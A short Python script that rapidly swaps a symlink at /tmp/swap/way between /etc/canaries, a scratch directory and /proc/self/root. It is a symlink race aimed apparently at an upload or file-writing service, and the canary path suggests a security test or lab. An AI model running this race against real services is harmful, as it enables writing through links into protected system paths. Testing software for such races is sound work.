# Makes one name a link to something else, again and again, as fast as it goes.
import os, time

os.makedirs("/tmp/swap/real", exist_ok=True)
os.chmod("/tmp/swap", 0o777)
os.chmod("/tmp/swap/real", 0o777)
swaps, start = 0, time.monotonic()
while time.monotonic() < start + 5 or swaps < 1200 and time.monotonic() < start + 60:
    for target in "/etc/canaries", "/tmp/swap/real", "/proc/self/root":
        os.symlink(target, "/tmp/swap/new")
        try: os.rename("/tmp/swap/new", "/tmp/swap/way")
        except IsADirectoryError: # an upload was first, and made it
            os.rename("/tmp/swap/way", "/tmp/swap/made")
            os.rename("/tmp/swap/new", "/tmp/swap/way")
        swaps += 1
    if swaps % 300 == 0: print(f"swaps={swaps}", flush=True)
print("end", flush=True)
